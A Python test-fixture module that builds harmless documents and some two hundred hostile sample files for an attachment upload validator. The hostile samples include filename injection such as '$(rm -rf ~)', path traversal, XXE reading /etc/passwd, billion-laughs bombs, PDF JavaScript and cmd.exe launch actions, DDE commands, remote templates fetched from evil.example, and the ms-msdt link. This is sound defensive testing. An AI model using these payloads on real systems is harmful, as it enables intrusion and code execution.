"""Harmless files of every kind, and two hundred that are not; all made of code, none kept in the repository."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from library.attachments.reasons import Reason

Parts = dict[str, bytes | str]

# --- harmless ones -----------------------------------------------------------------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OUTSIDE = ' TargetMode="External"'
_OOXML = "application/vnd.openxmlformats-officedocument."
_MAIN = {
    "docx": ("word/document.xml", f"{_OOXML}wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{_OOXML}spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{_OOXML}presentationml.presentation.main+xml"),
}
_BODY = {
    "docx": f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>Handbook</w:t></w:r></w:p></w:body></w:document>',
    "xlsx": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>',
    "pptx": '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
}


def zipped(parts: Mapping[str, bytes | str], *, stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            package.writestr(name, content, how)
    return out.getvalue()


def relationships(*targets: tuple[str, str, bool]) -> str:
    rows = "".join(
        f'<Relationship Id="r{n}" Type="{_REL}/{kind}" Target="{target}"{_OUTSIDE if out else ""}/>'
        for n, (kind, target, out) in enumerate(targets)
    )
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{head}<Relationships xmlns="{_PACKAGE}/relationships">{rows}</Relationships>'


def content_types(*overrides: tuple[str, str]) -> str:
    rows = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in overrides)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_PACKAGE}/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>{rows}</Types>'
    )


def office_parts(kind: str) -> Parts:
    main, media_type = _MAIN[kind]
    return {
        "[Content_Types].xml": content_types((main, media_type)),
        "_rels/.rels": relationships(("officeDocument", main, False)),
        main: f'<?xml version="1.0" encoding="UTF-8"?>{_BODY[kind]}',
    }


def office(kind: str, **more: bytes | str) -> bytes:
    return zipped({**office_parts(kind), **more})


def docx() -> bytes:
    return office("docx", **{"word/_rels/document.xml.rels": relationships(("hyperlink", "https://dkr.dk/", True))})


_ODF = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
_ODF_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odf_content(inside: str = "<text:p>Handbook</text:p>") -> str:
    return f"<office:document-content {_ODF_NAMES}><office:body>{inside}</office:body></office:document-content>"


def odf_parts(kind: str) -> Parts:
    media_type = f"application/vnd.oasis.opendocument.{_ODF[kind]}"
    names = 'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
    return {
        "mimetype": media_type,
        "content.xml": odf_content(),
        "META-INF/manifest.xml": f'<manifest:manifest {names}><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{media_type}"/></manifest:manifest>',
    }


def odf(kind: str, **more: bytes | str) -> bytes:
    return zipped({**odf_parts(kind), **more})


def pdf(*objects: bytes, catalog: bytes = b"", trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """Return a PDF of one empty page."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = io.BytesIO(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    out.seek(0, 2)
    places = []
    for number, content in enumerate(body, start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start))
    return out.getvalue() + tail


def stream(about: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (about, len(content), content)


def object_stream(
    *objects: bytes,
    about: bytes = b"/Type /ObjStm /Filter /FlateDecode",
    pack: Callable[[bytes], bytes] = zlib.compress,
) -> bytes:
    """Return objects 10, 11 … in one compressed stream, as writers since PDF 1.5 keep them."""
    places, content = [], b""
    for number, thing in enumerate(objects, start=10):
        places.append(b"%d %d" % (number, len(content)))
        content += thing + b" "
    head = b" ".join(places) + b" "
    return stream(b"%s /N %d /First %d" % (about, len(objects), len(head)), pack(head + content))


def picture(format_: str, size: tuple[int, int] = (40, 30), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, 128 if mode in ("L", "P") else None or 0).save(out, format_, **options)
    return out.getvalue()


def png() -> bytes:
    return picture("PNG")


def noise_png(length: int) -> bytes:
    side = int((length / 3) ** 0.5) + 1
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), random.Random(1).randbytes(side * side * 3)).save(out, "PNG")
    return out.getvalue()


def jpeg_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6  # lies on its side
    exif[0x010F] = "Canon"
    exif[0x8825] = {1: "N", 2: (55.0, 40.0, 30.0)}
    return picture("JPEG", exif=exif, comment=b"GPS 55.67 N")


def txt() -> bytes:
    return "Vejledning til mødet: æ, ø og å.\n".encode()


HARMLESS: dict[str, Callable[[], bytes]] = {
    "handbook.pdf": pdf,
    "places.pdf": lambda: pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "latex.pdf": lambda: pdf(object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>"), catalog=b"/OpenAction 10 0 R"),
    "form.docx": docx,
    "sheet.xlsx": lambda: office("xlsx"),
    "talk.pptx": lambda: office("pptx", **{"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}),
    "text.odt": lambda: odf("odt"),
    "linked.odt": lambda: odf(
        "odt", **{"content.xml": odf_content('<text:a xlink:href="https://dkr.dk/">dkr</text:a>')}
    ),
    "table.ods": lambda: odf("ods"),
    "talk.odp": lambda: odf("odp"),
    "map.png": png,
    "clear.png": lambda: picture("PNG", mode="RGBA"),
    "grey.png": lambda: picture("PNG", mode="L"),
    "place.jpg": jpeg_with_place,
    "print.jpeg": lambda: picture("JPEG", mode="CMYK"),
    "photo.webp": lambda: picture("WEBP"),
    "sign.gif": lambda: picture("GIF", mode="P"),
    "notes.txt": txt,
    "excel.csv": lambda: "navn;antal\nÅrhus;-12,5\n".encode("cp1252"),
    "unicode.txt": lambda: "Hej på dig".encode("utf-16"),
    "readme.md": lambda: b"# Guide\n\nSee <https://dkr.dk> and *this*.\n",
}


# --- hostile ones ------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """A file that must not come in as it is.

    :param expected: the reason with which it is refused; ``None`` where it comes in harmless.
    :param gone: what must not be in what is stored.
    :param called: what it is stored as, where the name was the danger.
    """

    title: str
    filename: str
    make: Callable[[], bytes]
    expected: Reason | None
    gone: bytes = b""
    called: str = ""


SCRIPT = b"<script>alert(1)</script>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120)
ELF = b"\x7fELF\x02\x01\x01" + bytes(120)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(64)
SEVEN = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'


def hostile() -> list[Hostile]:
    """Return all of them, in an order that stays."""
    return [
        *_names(),
        *_types(),
        *_pdfs(),
        *_offices(),
        *_opendocuments(),
        *_zips(),
        *_pictures(),
        *_texts(),
    ]


def _names() -> Iterator[Hostile]:
    turned = "\u202e"
    for name, reason in (
        (f"invoice{turned}fdp.exe", Reason.NAME),
        (f"invoice{turned}exe.pdf", Reason.NAME),
        ("plan\u2066fdp\u2069.pdf", Reason.NAME),
        ("report.exe.pdf", Reason.NAME),
        ("report.js.pdf", Reason.NAME),
        ("report.html.pdf", Reason.NAME),
        ("report.docm.pdf", Reason.NAME),
        ("report.zip.pdf", Reason.NAME),
        ("report.pdf\x00.exe", Reason.NAME),
        ("report.exe\x00.pdf", Reason.NAME),
        ("report\ue000.pdf", Reason.NAME),
        ("report", Reason.TYPE),
        ("report.", Reason.TYPE),
        ("", Reason.TYPE),
        ("report.pdf.exe", Reason.PROGRAM),
        ("report.pdf.scr", Reason.PROGRAM),
        ("report.pdf.lnk", Reason.PROGRAM),
        ("report.pdf:hidden.exe", Reason.PROGRAM),
        ("report.xyz", Reason.TYPE),
    ):
        yield Hostile(f"name {name!r}", name, pdf, reason)
    for name, called in (
        ("../../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.pdf", "win.pdf"),
        ("C:\\fakepath\\plan.pdf", "plan.pdf"),
        ("/etc/cron.d/job.pdf", "job.pdf"),
        ("..／..／plan.pdf", "plan.pdf"),
        ("con.pdf", "file con.pdf"),
        ("NUL.pdf", "file NUL.pdf"),
        ("LPT1.old.pdf", "file LPT1.old.pdf"),
        ("plan.pdf. . .", "plan.pdf"),
        ("a\r\nSet-Cookie: b=c.pdf", "aSet-Cookie- b=c.pdf"),
        ('a";filename="b.pdf', "a filename=-b.pdf"),
        ("$(rm -rf ~);`id`.pdf", ""),
        ("-rf.pdf", "rf.pdf"),
        ("~.pdf", ""),
        ("....pdf", "file.pdf"),
        (".pdf.", "file.pdf"),
        (".htaccess.pdf", "htaccess.pdf"),
        ("x" * 3_000 + ".pdf", "x" * 146 + ".pdf"),
        ("å" * 3_000 + ".pdf", "å" * 146 + ".pdf"),
        ("plan\u200b\u200d.pdf", "plan.pdf"),
        ("<img src=x onerror=alert(1)>.pdf", ""),
    ):
        yield Hostile(f"name {name[:40]!r}", name, pdf, None, called=called)


def _types() -> Iterator[Hostile]:
    for ending, reason in (
        *((e, Reason.ARCHIVE) for e in ("zip", "rar", "7z", "tar", "gz", "iso", "jar", "epub")),
        *((e, Reason.OLD_OFFICE) for e in ("doc", "xls", "ppt", "rtf")),
        *((e, Reason.MACROS) for e in ("docm", "xlsm", "pptm", "dotm", "xlsb")),
        *((e, Reason.WEB_PAGE) for e in ("html", "svg", "xml", "xhtml", "php")),
        *((e, Reason.PROGRAM) for e in ("exe", "js", "vbs", "bat", "ps1", "hta", "url")),
    ):
        yield Hostile(f"a .{ending}", f"file.{ending}", lambda: b"anything", reason)
    for claimed in ("pdf", "docx", "odt", "png", "jpg", "txt"):
        yield Hostile(f"empty .{claimed}", f"file.{claimed}", bytes, Reason.EMPTY)
    for claimed in ("pdf", "docx", "ods", "txt"):
        yield Hostile(f"a program called .{claimed}", f"file.{claimed}", lambda: EXE, Reason.PROGRAM)
    for claimed in ("pdf", "pptx"):
        yield Hostile(f"a Linux program called .{claimed}", f"file.{claimed}", lambda: ELF, Reason.PROGRAM)
    for claimed in ("png", "gif", "jpg"):
        yield Hostile(f"a program called .{claimed}", f"file.{claimed}", lambda: EXE, Reason.PROGRAM)
    for claimed in ("docx", "xlsx", "pptx"):
        yield Hostile(f"an old document called .{claimed}", f"file.{claimed}", lambda: OLE, Reason.OLD_OFFICE)
    yield Hostile("a RAR called .pdf", "file.pdf", lambda: RAR, Reason.ARCHIVE)
    yield Hostile("a 7z called .odt", "file.odt", lambda: SEVEN, Reason.ARCHIVE)
    yield Hostile("a ZIP called .pdf", "file.pdf", lambda: zipped({"a.txt": "a"}), Reason.MISMATCH)
    yield Hostile("a ZIP called .docx", "file.docx", lambda: zipped({"a.txt": "a"}), Reason.MISMATCH)
    yield Hostile("a ZIP called .odt", "file.odt", lambda: zipped({"a.txt": "a"}), Reason.MISMATCH)
    yield Hostile("a ZIP called .png", "file.png", lambda: zipped({"a.txt": "a"}), Reason.MISMATCH)
    yield Hostile("HTML called .pdf", "file.pdf", lambda: HTML, Reason.MISMATCH)
    yield Hostile("HTML called .png", "file.png", lambda: HTML, Reason.MISMATCH)
    yield Hostile("a PDF called .png", "file.png", pdf, Reason.MISMATCH)
    yield Hostile("a PNG called .jpg", "file.jpg", png, Reason.MISMATCH)
    yield Hostile("a PNG called .pdf", "file.pdf", png, Reason.MISMATCH)
    yield Hostile("a Word file called .xlsx", "file.xlsx", docx, Reason.MISMATCH)
    yield Hostile("a text called .odp", "file.odp", lambda: odf("odt"), Reason.MISMATCH)
    yield Hostile("SVG called .png", "file.png", lambda: SVG, Reason.MISMATCH)
    yield Hostile("too large", "file.txt", lambda: b"a" * 20_000_001, Reason.TOO_LARGE)


def _pdfs() -> Iterator[Hostile]:
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    escaped = b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>"

    def one(title: str, make: Callable[[], bytes], reason: Reason) -> Hostile:
        return Hostile(f"PDF {title}", "file.pdf", make, reason)

    active = Reason.ACTIVE
    yield one("with a script on opening", lambda: pdf(catalog=b"/OpenAction " + script), active)
    yield one("with a script among its names", lambda: pdf(catalog=b"/Names << /JavaScript 4 0 R >>"), active)
    yield one("with an escaped script", lambda: pdf(catalog=b"/OpenAction " + escaped), active)
    yield one("with a script in an object stream", lambda: pdf(object_stream(script)), active)
    yield one("with an escaped script in an object stream", lambda: pdf(object_stream(escaped)), active)
    yield one(
        "with an object stream that does not say so",
        lambda: pdf(object_stream(script, about=b"/Filter /FlateDecode")),
        active,
    )
    yield one(
        "with an escaped type of object stream",
        lambda: pdf(object_stream(script, about=b"/Type /Obj#53tm /Filter /FlateDecode")),
        active,
    )
    yield one(
        "with a script behind two filters",
        lambda: pdf(
            object_stream(
                script,
                about=b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
                pack=lambda raw: zlib.compress(raw).hex().encode() + b">",
            )
        ),
        active,
    )
    yield one(
        "with an object stream packed oddly",
        lambda: pdf(object_stream(script, about=b"/Type /ObjStm /Filter /LZWDecode")),
        Reason.UNREADABLE,
    )
    yield one(
        "with a damaged object stream",
        lambda: pdf(object_stream(b"<< /Length 1 >>", pack=lambda raw: raw)),
        Reason.UNREADABLE,
    )
    yield one("with an object stream like a bomb", lambda: pdf(object_stream(b" " * 40_000_000)), Reason.BOMB)
    yield one("that starts a program", lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), active)
    yield one(
        "that starts a program on a click",
        lambda: pdf(b"<< /Subtype /Link /A << /S /Launch /Win << /F (cmd) >> >> >>"),
        active,
    )
    yield one(
        "that opens an address", lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>"), active
    )
    yield one(
        "that opens an address by reference",
        lambda: pdf(b"<< /S /URI /URI (http://evil.example) >>", catalog=b"/OpenAction 4 0 R"),
        active,
    )
    yield one(
        "that opens an address in a stream",
        lambda: pdf(object_stream(b"<< /S /URI /URI (http://evil) >>"), catalog=b"/OpenAction 10 0 R"),
        active,
    )
    yield one("that opens what is not there", lambda: pdf(catalog=b"/OpenAction 99 0 R"), active)
    yield one(
        "that opens with two answers",
        lambda: pdf(b"[3 0 R /Fit]", tail=b"4 0 obj\n<< /S /URI >>\nendobj\n%%EOF\n", catalog=b"/OpenAction 4 0 R"),
        active,
    )
    yield one(
        "with deeds of a page", lambda: pdf(b"<< /Type /Page /AA << /O << /S /URI /URI (http://evil) >> >> >>"), active
    )
    yield one("that sends a form", lambda: pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), active)
    yield one("that fetches data", lambda: pdf(b"<< /S /ImportData /F (http://evil.example) >>"), active)
    yield one("with rich media", lambda: pdf(b"<< /Subtype /RichMedia >>"), active)
    yield one("with an XFA form", lambda: pdf(catalog=b"/AcroForm << /XFA 4 0 R >>"), active)
    yield one("that leads into a file inside", lambda: pdf(b"<< /S /GoToE /T << /R /C >> >>"), active)
    yield one("with a film", lambda: pdf(b"<< /Subtype /Movie /Movie << /F (http://evil) >> >>"), active)
    yield one("with a file inside", lambda: pdf(stream(b"/Type /EmbeddedFile", EXE)), Reason.EMBEDDED)
    yield one("with files among its names", lambda: pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"), Reason.EMBEDDED)
    yield one("with a file pinned to a page", lambda: pdf(b"<< /Subtype /FileAttachment >>"), Reason.EMBEDDED)
    yield one("that is a portfolio", lambda: pdf(catalog=b"/Collection << /View /T >>"), Reason.EMBEDDED)
    yield one("with a password", lambda: pdf(trailer=b"/Encrypt 4 0 R"), Reason.ENCRYPTED)
    yield one(
        "with a password in an object stream", lambda: pdf(object_stream(b"<< /Encrypt 4 0 R >>")), Reason.ENCRYPTED
    )
    yield one("that is a ZIP too", lambda: pdf(tail=zipped({"a.txt": "a"})), Reason.MISMATCH)
    yield one("behind other bytes", lambda: b"GIF89a\n" + pdf(), Reason.MISMATCH)
    yield one("behind a web page", lambda: HTML + pdf(), Reason.MISMATCH)
    yield one("before a web page", lambda: pdf(tail=HTML), Reason.MISMATCH)
    yield one("with much behind it", lambda: pdf(tail=bytes(50_000)), Reason.MISMATCH)
    yield one("without end", lambda: pdf().replace(b"%%EOF", b""), Reason.UNREADABLE)
    yield one("that is its mark alone", lambda: b"%PDF-1.7\n", Reason.UNREADABLE)


def _offices() -> Iterator[Hostile]:
    def one(title: str, kind: str, reason: Reason, **more: bytes | str) -> Hostile:
        return Hostile(f"{kind} {title}", f"file.{kind}", lambda: office(kind, **more), reason)

    types = "[Content_Types].xml"
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    vba = "application/vnd.ms-office.vbaProject"
    rels = "word/_rels/document.xml.rels"
    main = _MAIN["docx"]
    yield one("with a macro project", "docx", Reason.MACROS, **{"word/vbaProject.bin": OLE})
    yield one("with a macro project", "xlsx", Reason.MACROS, **{"xl/vbaProject.bin": OLE})
    yield one("with a macro project", "pptx", Reason.MACROS, **{"ppt/vbaProject.bin": OLE})
    yield one(
        "with a hidden macro project",
        "docx",
        Reason.MACROS,
        **{types: content_types(main, ("word/x.dat", vba)), "word/x.dat": b"x"},
    )
    yield one("that is a .docm", "docx", Reason.MACROS, **{types: content_types((main[0], macro))})
    yield one(
        "with macros by relationship", "docx", Reason.MACROS, **{rels: relationships(("vbaProject", "x.dat", False))}
    )
    yield one("with macro data", "docx", Reason.MACROS, **{"word/vbaData.xml": "<a/>"})
    yield one("with macro sheets of 1992", "xlsx", Reason.MACROS, **{"xl/macrosheets/sheet1.xml": "<a/>"})
    yield one("with dialogue sheets", "xlsx", Reason.MACROS, **{"xl/dialogsheets/sheet1.xml": "<a/>"})
    yield one("with controls", "docx", Reason.ACTIVE, **{"word/activeX/activeX1.xml": "<a/>"})
    yield one("with a ribbon of its own", "xlsx", Reason.ACTIVE, **{"customUI/customUI.xml": "<a/>"})
    yield one("with an OLE package", "docx", Reason.EMBEDDED, **{"word/embeddings/oleObject1.bin": OLE})
    yield one("with a program inside", "docx", Reason.PROGRAM, **{"word/media/image1.png": EXE})
    yield one("with a Linux program inside", "pptx", Reason.PROGRAM, **{"ppt/media/film.mp4": ELF})
    yield one("with a script inside", "pptx", Reason.PROGRAM, **{"ppt/media/run": "#!/bin/sh\nid\n"})
    yield one("with an archive inside", "docx", Reason.EMBEDDED, **{"word/media/image1.png": zipped({"a": "a"})})
    yield one("with a RAR inside", "pptx", Reason.EMBEDDED, **{"ppt/media/a.bin": RAR})
    yield one("with a PDF inside", "docx", Reason.EMBEDDED, **{"word/embeddings/a.bin": pdf()})
    yield one(
        "with a workbook with macros",
        "docx",
        Reason.MACROS,
        **{"word/embeddings/a.xlsx": office("xlsx", **{"xl/vbaProject.bin": OLE})},
    )
    yield one("with a ZIP called a workbook", "docx", Reason.EMBEDDED, **{"word/embeddings/a.xlsx": zipped({"a": "a"})})
    yield one(
        "with documents three deep",
        "docx",
        Reason.EMBEDDED,
        **{"word/embeddings/a.docx": office("docx", **{"word/embeddings/b.docx": docx()})},
    )
    settings = "word/_rels/settings.xml.rels"
    yield one(
        "with a template elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{settings: relationships(("attachedTemplate", "https://evil.example/t.dotm", True))},
    )
    yield one(
        "with a template on a share",
        "docx",
        Reason.EXTERNAL,
        **{settings: relationships(("attachedTemplate", "\\\\evil\\t.dotm", True))},
    )
    yield one(
        "with a template that is not marked",
        "docx",
        Reason.EXTERNAL,
        **{settings: relationships(("attachedTemplate", "file://evil/t.dotm", False))},
    )
    yield one(
        "with a picture elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("image", "http://evil.example/p.png", True))},
    )
    yield one(
        "with a frame elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("frame", "http://evil.example/", True))},
    )
    yield one(
        "with an object elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("oleObject", "mhtml:http://evil.example/x.html!x", True))},
    )
    yield one(
        "with a chapter elsewhere",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("subDocument", "http://evil.example/", True))},
    )
    yield one(
        "with a link that runs",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("hyperlink", "javascript:alert(1)", True))},
    )
    yield one(
        "with a link to a file",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("hyperlink", "file:///c:/windows/calc.exe", True))},
    )
    yield one(
        "with a link to a search",
        "docx",
        Reason.EXTERNAL,
        **{rels: relationships(("hyperlink", "ms-msdt:/id PCWDiagnostic", True))},
    )
    yield one(
        "with a workbook elsewhere",
        "xlsx",
        Reason.EXTERNAL,
        **{"xl/externalLinks/_rels/e1.xml.rels": relationships(("externalLinkPath", "http://evil/x.xlsx", True))},
    )
    yield one(
        "with a film elsewhere",
        "pptx",
        Reason.EXTERNAL,
        **{"ppt/slides/_rels/s.xml.rels": relationships(("video", "http://evil.example/v.mp4", True))},
    )

    def field(*runs: str) -> str:
        inside = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        return f'<w:document xmlns:w="{_W}"><w:body><w:p>{inside}</w:p></w:body></w:document>'

    yield one("with DDE", "docx", Reason.EXTERNAL, **{main[0]: field("DDEAUTO c:\\\\windows\\\\cmd.exe")})
    yield one("with DDE in pieces", "docx", Reason.EXTERNAL, **{main[0]: field(" DD", "EAU", "TO cmd ")})
    simple = f'<w:document xmlns:w="{_W}"><w:fldSimple w:instr=" DDE cmd "/></w:document>'
    yield one("with DDE in a simple field", "docx", Reason.EXTERNAL, **{main[0]: simple})
    yield one(
        "with a picture by field", "docx", Reason.EXTERNAL, **{main[0]: field('INCLUDEPICTURE "http://evil/p.png"')}
    )

    def cell(formula: str) -> str:
        return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"

    sheet = "xl/worksheets/sheet1.xml"
    yield one("with a command in a cell", "xlsx", Reason.EXTERNAL, **{sheet: cell("cmd|'/C calc'!A0")})
    yield one("with WEBSERVICE", "xlsx", Reason.EXTERNAL, **{sheet: cell("_xlfn.WEBSERVICE(&quot;http://evil&quot;)")})
    yield one("with EXEC", "xlsx", Reason.EXTERNAL, **{sheet: cell("EXEC(&quot;calc&quot;)")})
    yield one(
        "with a DDE link",
        "xlsx",
        Reason.EXTERNAL,
        **{"xl/externalLinks/e1.xml": "<externalLink><ddeLink/></externalLink>"},
    )
    yield one("with laughing entities", "docx", Reason.BOMB, **{main[0]: LAUGHS})
    yield one("with an entity from outside", "docx", Reason.BOMB, **{main[0]: OUTSIDE})
    yield one("with entities in its types", "docx", Reason.BOMB, **{types: LAUGHS})
    yield one(
        "with entities in UTF-16",
        "docx",
        Reason.BOMB,
        **{"word/styles.xml": LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")},
    )
    yield one(
        "in UTF-7",
        "docx",
        Reason.UNREADABLE,
        **{"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'},
    )
    yield one("nested without end", "docx", Reason.BOMB, **{"word/styles.xml": "<a>" * 100_000})
    yield one(
        "with one endless tag",
        "docx",
        Reason.BOMB,
        **{"word/styles.xml": '<a b="' + "".join(map(str, range(700_000))) + '"/>'},
    )
    yield one("that is no XML", "docx", Reason.UNREADABLE, **{"word/styles.xml": "<a><b></a>"})
    yield one("with entities in a drawing", "pptx", Reason.BOMB, **{"ppt/media/i.svg": LAUGHS})


def _opendocuments() -> Iterator[Hostile]:
    def one(title: str, reason: Reason, kind: str = "odt", **more: bytes | str) -> Hostile:
        return Hostile(f"{kind} {title}", f"file.{kind}", lambda: odf(kind, **more), reason)

    def content(title: str, inside: str, reason: Reason, kind: str = "odt") -> Hostile:
        return one(title, reason, kind, **{"content.xml": odf_content(inside)})

    yield one("with Basic", Reason.MACROS, **{"Basic/Standard/Module1.xml": "<a/>"})
    yield one("with scripts", Reason.MACROS, "ods", **{"Scripts/python/a.py": "import os"})
    yield content("that listens", '<script:event-listener xlink:href="vnd.sun.star.script:a"/>', Reason.MACROS)
    yield content("with a script", "<office:script/>", Reason.MACROS)
    yield content("with a link that runs", '<text:a xlink:href="macro:///Standard.Module1.Main"/>', Reason.MACROS)
    yield content("with a link to JavaScript", '<text:a xlink:href=" javascript:alert(1)"/>', Reason.MACROS)
    yield content("with a picture elsewhere", '<draw:image xlink:href="http://evil.example/p.png"/>', Reason.EXTERNAL)
    yield content("with a picture on a share", '<draw:image xlink:href="\\\\evil\\p.png"/>', Reason.EXTERNAL)
    yield content("with a chapter elsewhere", '<text:section-source xlink:href="../other.odt"/>', Reason.EXTERNAL)
    yield content(
        "with a table elsewhere", '<table:table-source xlink:href="http://evil/x.ods"/>', Reason.EXTERNAL, "ods"
    )
    yield content("with DDE", "<office:dde-source/>", Reason.EXTERNAL, "ods")
    yield content(
        "with a formula that fetches",
        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil&quot;)"/>',
        Reason.EXTERNAL,
        "ods",
    )
    yield content("with a frame", '<draw:floating-frame xlink:href="a"/>', Reason.ACTIVE)
    yield content("with an applet", "<draw:applet/>", Reason.ACTIVE)
    yield content("with a plug-in", "<draw:plugin/>", Reason.ACTIVE, "odp")
    yield one(
        "with a password",
        Reason.ENCRYPTED,
        **{"META-INF/manifest.xml": '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>'},
    )
    yield one("with an OLE object", Reason.EMBEDDED, **{"Object 1": OLE})
    yield one("with a program", Reason.PROGRAM, **{"Pictures/a.png": EXE})
    yield one("with laughing entities", Reason.BOMB, **{"content.xml": LAUGHS})
    yield one("with entities in its settings", Reason.BOMB, **{"settings.xml": OUTSIDE})
    packed = odf_parts("odt")
    yield Hostile("odt whose kind is compressed", "file.odt", lambda: zipped(packed, stored=()), Reason.MISMATCH)
    late = {"content.xml": packed["content.xml"], **packed}
    yield Hostile("odt whose kind comes late", "file.odt", lambda: zipped(late), Reason.MISMATCH)


def _zips() -> Iterator[Hostile]:
    def one(title: str, make: Callable[[], bytes], reason: Reason) -> Hostile:
        return Hostile(f"ZIP {title}", "file.docx", make, reason)

    yield one("that grows a thousandfold", lambda: office("docx", **{"word/a.bin": bytes(60_000_000)}), Reason.BOMB)
    yield one(
        "with many that grow",
        lambda: office("docx", **{f"word/{n}.bin": bytes(4_000_000) for n in range(20)}),
        Reason.BOMB,
    )
    yield one(
        "with too many entries", lambda: office("docx", **{f"word/{n}.xml": "<a/>" for n in range(4_100)}), Reason.BOMB
    )
    yield one("behind other bytes", lambda: b"GIF89a" + docx(), Reason.MISMATCH)
    yield one("before other bytes", lambda: docx() + HTML, Reason.UNREADABLE)
    yield one("with a comment", lambda: _commented(docx(), HTML), Reason.UNREADABLE)
    yield one("with a way out", lambda: office("docx", **{"../../evil.xml": "<a/>"}), Reason.MISMATCH)
    yield one("with a place of its own", lambda: office("docx", **{"/etc/evil.xml": "<a/>"}), Reason.MISMATCH)
    yield one(
        "with a name from Windows", lambda: docx().replace(b"word/document.xml", b"word\\document.xml"), Reason.MISMATCH
    )
    yield one("with two of one name", lambda: _doubled(), Reason.MISMATCH)
    yield one("with a password", lambda: _flagged(docx()), Reason.ENCRYPTED)
    yield one("packed oddly", lambda: _method(docx(), 12), Reason.UNREADABLE)
    yield one("that is cut", lambda: docx()[:-40], Reason.UNREADABLE)
